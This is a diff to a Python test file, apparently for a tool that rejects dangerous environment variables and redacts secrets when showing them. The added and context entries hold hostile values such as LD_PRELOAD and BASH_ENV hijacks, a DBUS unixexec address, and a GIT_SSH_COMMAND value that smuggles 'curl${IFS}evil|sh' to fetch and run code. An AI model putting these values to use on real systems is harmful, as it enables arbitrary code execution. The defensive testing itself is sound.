@@ -19,6 +19,10 @@ KEY = "s3cret-0123456789"
         ("LD_PRELOAD", "/srv/evil.so"),
         ("PERL5OPT", "-Mevil"),
         ("GIT_ASKPASS", "/srv/evil"),
+        ("SSH_ASKPASS", "bin/evil"),
+        ("BASH_ENV", "evil-0123456789.sh"),
+        ("PYTHONPATH", "evil"),
+        ("ALL_PROXY", "evil.example"),
         ("GIT_SSH_COMMAND", "x://a:;curl${IFS}evil|sh;@"),
         ("DBUS_SESSION_BUS_ADDRESS", "unixexec:path=/srv/evil"),
         ("npm_config_registry", "https://evil.example/"),
@@ -53,7 +57,7 @@ def test_a_placeholder_does_not_move_a_hidden_argument_to_another_place() -> Non
 @pytest.mark.parametrize(
     ("environment", "shown"),
     [
-        ({"TOKEN": KEY, "PHRASE": KEY}, "'TOKEN=…', 'PHRASE=…'"),
+        ({"TOKEN": KEY, "PASSPHRASE": KEY}, "'TOKEN=…', 'PASSPHRASE=…'"),
         ({"API_KEY": "ab+cd/ef=="}, "'API_KEY=…'"),
         ({"SITE": f"postgres://ann:{KEY}@host/db"}, "'SITE=postgres://…@host/db'"),
         ({"TOKEN": "${env:TOKEN}", "EMPTY": ""}, "'TOKEN=${env:TOKEN}', EMPTY="),
